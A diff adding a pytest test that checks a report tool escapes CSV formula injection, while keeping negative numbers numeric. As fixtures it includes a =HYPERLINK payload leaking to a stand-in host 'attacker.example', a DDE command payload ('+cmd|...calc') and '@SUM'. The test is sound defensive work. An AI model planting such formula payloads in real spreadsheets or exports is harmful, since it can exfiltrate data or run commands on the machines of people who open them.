@@ -2,6 +2,7 @@
 disk, formula injection in report.csv. Each test runs real scripts and reads the files they leave."""
 
 import contextlib
+import csv
 import errno
 import subprocess
 from pathlib import Path
@@ -140,3 +141,22 @@ def test_a_report_onto_a_full_disk_keeps_the_last_report_whole(run, small_disk):
     assert "Traceback" not in done.stderr
     assert {path.name: path.read_bytes() for path in out.iterdir()} == written
 
+
+def test_report_csv_cells_that_begin_like_formulas_are_text_and_numbers_stay_numbers(run, tmp_path):
+    """Cells beginning with =, +, -, @ were written raw: a spreadsheet opening report.csv ran
+    =HYPERLINK(...). Each such text cell now begins with ' (as OWASP recommends); a negative
+    parameter (alpha=-1.5) is still a number."""
+    run(*scripts_corpus("formula_labels"), "runtime=torch-eager", "alpha=-1.5", job_dir=tmp_path / "job")
+    report_line(tmp_path / "job", out=tmp_path / "report")
+    for name in ("report.csv", "comparison.csv"):
+        with open(tmp_path / "report" / name, newline="") as file:
+            rows = list(csv.DictReader(file))
+        assert rows and rows[0]["model_name"] == "'=HYPERLINK(\"http://attacker.example/?leak=1\")"
+        assert rows[0]["parameters.alpha"] == "-1.5"
+        for row in rows:
+            for cell in row.values():
+                if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
+                    float(cell)  # only a number may begin so
+    [row] = list(csv.DictReader(open(tmp_path / "report" / "report.csv", newline="")))
+    assert (row["author"], row["task"], row["license"]) == ("'@SUM(1+1)", "'+cmd|'/c_calc'!A0", "'-2+3")
+    assert pd.read_csv(tmp_path / "report" / "report.csv")["parameters.alpha"].dtype == float
